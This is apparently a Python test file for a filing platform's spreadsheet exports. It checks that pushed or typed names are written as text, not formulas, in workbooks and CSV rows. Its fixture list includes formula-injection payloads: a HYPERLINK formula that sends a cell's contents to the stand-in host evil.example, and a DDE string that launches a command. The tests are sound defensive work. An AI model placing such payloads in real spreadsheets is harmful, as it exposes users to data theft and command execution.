"""Text that someone pushed or typed is never evaluated as a formula in a workbook the platform writes."""

import datetime
import io

import pytest
from openpyxl import Workbook, load_workbook

from filing.models import MonthlyReport
from filing.workbooks import monthly_workbook
from registry.spreadsheets import append, csv_row

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


def cells(content: bytes):
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def test_a_pushed_name_that_looks_like_a_formula_stays_text_in_the_monthly_workbook(regions):
    report = MonthlyReport.objects.create(
        region=regions["441802"],
        month=datetime.date(2026, 10, 1),
        level=MonthlyReport.Level.COUNTY,
        rows={"registrations": [{"uscc": "91441802X", "name": name} for name in HOSTILE]},
        punctuality=[{"authority": HOSTILE[0], "total": 1, "on_time": 1, "late": 0, "rate": 100.0}],
    )
    found = [c for c in cells(monthly_workbook(report)) if isinstance(c.value, str) and c.value in HOSTILE]
    assert len(found) >= len(HOSTILE)  # a lone \r is read back changed: it cannot be matched
    for cell in found:
        assert cell.data_type == "s", cell.value
        assert cell.quotePrefix, cell.value  # Excel shows it as typed and keeps it text when edited


@pytest.mark.parametrize("write_only", [True, False])
def test_the_helper_writes_text_as_text_in_either_kind_of_sheet(write_only):
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("x") if write_only else book.active
    append(sheet, [*HOSTILE, "清城区", 3, None])
    out = io.BytesIO()
    book.save(out)
    values = cells(out.getvalue())
    assert [c.data_type for c in values[: len(HOSTILE)]] == ["s"] * len(HOSTILE)
    assert values[len(HOSTILE)].value == "清城区" and not values[len(HOSTILE)].quotePrefix
    assert values[len(HOSTILE) + 1].value == 3


def test_csv_cells_that_would_be_formulas_get_an_apostrophe():
    assert csv_row(["=1+1", "清城区", 5, "-3"]) == ["'=1+1", "清城区", 5, "'-3"]
